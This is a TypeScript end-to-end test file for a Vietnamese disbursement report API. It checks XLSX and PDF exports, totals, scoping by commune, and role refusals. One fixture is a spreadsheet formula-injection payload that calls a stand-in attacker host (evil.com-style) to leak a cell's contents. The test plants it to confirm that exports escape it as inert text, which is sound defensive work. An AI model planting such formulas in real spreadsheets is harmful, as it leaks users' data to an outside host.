import { extractText, getDocumentProxy } from 'unpdf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import XLSX from 'xlsx';
import { startInProcessRuntime } from '../reliability/support/in-process-runtime.ts';
import { looksRunnable } from '../support/spreadsheet-reader.ts';
import { steps } from './support/api-steps.ts';
import { assertContract } from './support/openapi-contract.ts';

/**
 * GET /reports/{file} end to end: the disbursement result report as XLSX and PDF, opened by readers
 * that share nothing with the writers (SheetJS, pdf.js through unpdf), against GET /reports/progress.
 */
let rt: Awaited<ReturnType<typeof startInProcessRuntime>>;
let s: ReturnType<typeof steps>;
const QUERY = 'fiscalYear=2024&asOf=2024-10-01';
const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Xem")';

/** A report file as bytes, its answer checked against the OpenAPI document. */
const download = async (file: string, query: string, token: string) => {
  const path = `/reports/${file}?${query}`;
  const res = await fetch(`${rt.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  const bytes = Buffer.from(await res.arrayBuffer());
  const binary = res.headers.get('content-type')?.startsWith('application/json') !== true;
  assertContract('GET', path, {
    status: res.status,
    headers: res.headers,
    text: binary ? '' : bytes.toString(),
  });
  return { status: res.status, headers: res.headers, bytes };
};

const rowsOf = (bytes: Buffer, sheet: string) => {
  const book = XLSX.read(bytes, { type: 'buffer' });
  return XLSX.utils.sheet_to_json<unknown[]>(book.Sheets[sheet] as XLSX.WorkSheet, {
    header: 1,
    raw: true,
    defval: null,
  });
};

/** The totals row of a sheet by its header names. */
const totalsOf = (rows: unknown[][]) => {
  const header = rows.find((r) => r[0] === 'STT') ?? [];
  const total = rows.find((r) => r[1] === 'TỔNG CỘNG') ?? [];
  return (name: string) => total[header.indexOf(name)];
};

/** The totals GET /reports/progress shows for the same query: the sums of its rows. */
const progressTotals = async (query: string, token: string) => {
  const res = await rt.call('GET', `/reports/progress?${query}`, { token });
  expect(res.status).toBe(200);
  const rows = res.body.rows as { assignedVnd: number; disbursedVnd: number; advancedVnd: number }[];
  const sum = (f: (r: (typeof rows)[number]) => number) => rows.reduce((t, r) => t + f(r), 0);
  return {
    assignedVnd: sum((r) => r.assignedVnd),
    disbursedVnd: sum((r) => r.disbursedVnd),
    advancedVnd: sum((r) => r.advancedVnd),
  };
};

beforeAll(async () => {
  rt = await startInProcessRuntime();
  s = steps(rt);
  const roads = await s.createAllocation({ commune: 'A Tiêng', amountVnd: 1_000_000_000 });
  await s.createAllocation({ commune: 'A Nông', fundingLine: 'provincial', amountVnd: 300_000_000 });
  const housing = await s.createAllocation({
    commune: 'A Nông',
    capitalType: 'recurrent',
    component: 'DA5',
    title: FORMULA_TITLE,
    amountVnd: 400_000_000,
  });
  await s.approveAll((await s.submit(roads.id, 250_000_000)).body.id);
  await s.approveAll((await s.submit(housing.id, 120_000_000)).body.id);
}, 240_000);
afterAll(async () => {
  await rt?.stop();
});

describe('GET /reports/ket-qua-giai-ngan.xlsx', () => {
  it('opens in an independent reader with the totals of GET /reports/progress for the same query', async () => {
    const token = await s.as('inspector-report', 'inspector');
    const res = await download('ket-qua-giai-ngan.xlsx', QUERY, token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="ket-qua-giai-ngan-2024-2024-10-01.xlsx"',
    );
    const expected = await progressTotals(QUERY, token);
    expect(expected).toEqual({ assignedVnd: 1_700_000_000, disbursedVnd: 370_000_000, advancedVnd: 0 });
    for (const sheet of ['Báo cáo', 'Chi tiết']) {
      const total = totalsOf(rowsOf(res.bytes, sheet));
      expect(total('Tổng kế hoạch vốn')).toBe(expected.assignedVnd);
      expect(total('Đã giải ngân')).toBe(expected.disbursedVnd);
      expect(total('Trong đó: tạm ứng')).toBe(expected.advancedVnd);
    }
    const summary = rowsOf(res.bytes, 'Báo cáo');
    expect(String(summary[1]?.[0])).toContain('Đơn vị báo cáo');
    expect(summary.some((r) => String(r[1]).startsWith('DA5 · Hỗ trợ nhà ở'))).toBe(true);
  });

  it('gives a commune-scoped reader their commune only, with their own progress totals', async () => {
    const token = await rt.token('inspector-a-nong', ['inspector'], { commune: 'A Nông' });
    const res = await download('ket-qua-giai-ngan.xlsx', QUERY, token);
    expect(res.status).toBe(200);
    const expected = await progressTotals(QUERY, token);
    expect(expected.assignedVnd).toBe(700_000_000);
    const details = rowsOf(res.bytes, 'Chi tiết');
    const total = totalsOf(details);
    expect(total('Tổng kế hoạch vốn')).toBe(expected.assignedVnd);
    expect(total('Đã giải ngân')).toBe(expected.disbursedVnd);
    const communes = details.filter((r) => /^\d+$/.test(String(r[0]))).map((r) => r[5]);
    expect(communes.length).toBe(2);
    expect(new Set(communes)).toEqual(new Set(['xã A Nông']));
  });

  it('writes a title that starts like a formula as inert text', async () => {
    const res = await download('ket-qua-giai-ngan.xlsx', QUERY, await s.as('auditor-report', 'auditor'));
    const book = XLSX.read(res.bytes, { type: 'buffer', cellFormula: true });
    const cells = Object.entries(book.Sheets['Chi tiết'] as XLSX.WorkSheet)
      .filter(([k]) => !k.startsWith('!'))
      .map(([, c]) => c as XLSX.CellObject);
    expect(cells.filter((c) => c.f !== undefined)).toEqual([]);
    expect(cells.map((c) => c.v)).toContain(`'${FORMULA_TITLE}`);
    expect(cells.filter((c) => c.t === 's' && looksRunnable(String(c.v)))).toEqual([]);
  });
});

describe('GET /reports/ket-qua-giai-ngan.pdf', () => {
  it('is an A4 landscape PDF whose text is Vietnamese and shows the progress totals', async () => {
    const token = await s.as('planner-report', 'planner');
    const res = await download('ket-qua-giai-ngan.pdf', QUERY, token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.bytes.subarray(0, 5).toString()).toBe('%PDF-');
    expect(res.bytes.toString('latin1')).toContain('/MediaBox [0 0 841.89 595.28]');
    const { text } = await extractText(await getDocumentProxy(new Uint8Array(res.bytes)), {
      mergePages: true,
    });
    expect(text).toContain(
      'BÁO CÁO KẾT QUẢ GIẢI NGÂN VỐN CHƯƠNG TRÌNH MỤC TIÊU QUỐC GIA GIẢM NGHÈO BỀN VỮNG',
    );
    expect(text).toContain('xã A Tiêng');
    // 1.700.000.000 assigned, 370.000.000 disbursed: 21,76%.
    expect(text).toMatch(
      /TỔNG CỘNG\s+1\.700\.000\.000\s+0\s+1\.700\.000\.000\s+370\.000\.000\s+0\s+370\.000\.000\s+21,76%/,
    );
  });
});

describe('GET /reports/{file} refusals', () => {
  it('refuses a role that does not read progress with 403', async () => {
    const res = await download('ket-qua-giai-ngan.pdf', QUERY, await s.as('finance-report', 'finance'));
    expect(res.status).toBe(403);
  });

  it('answers a bad query or an unknown file with 400 naming the field', async () => {
    const token = await s.as('inspector-report', 'inspector');
    const cases = [
      ['ket-qua-giai-ngan.xlsx', 'asOf=2024-02-30', 'query.asOf'],
      ['ket-qua-giai-ngan.xlsx', 'fiscalYear=24', 'query.fiscalYear'],
      ['ket-qua-giai-ngan.pdf', 'format=csv', 'format'],
      ['ket-qua-giai-ngan.docx', QUERY, 'path.file'],
    ] as const;
    for (const [file, query, field] of cases) {
      const res = await download(file, query, token);
      expect(res.status, `${file}?${query}`).toBe(400);
      const body = JSON.parse(res.bytes.toString()) as { error: { code: string; message: string } };
      expect(body.error.message).toContain(field);
    }
  });
});
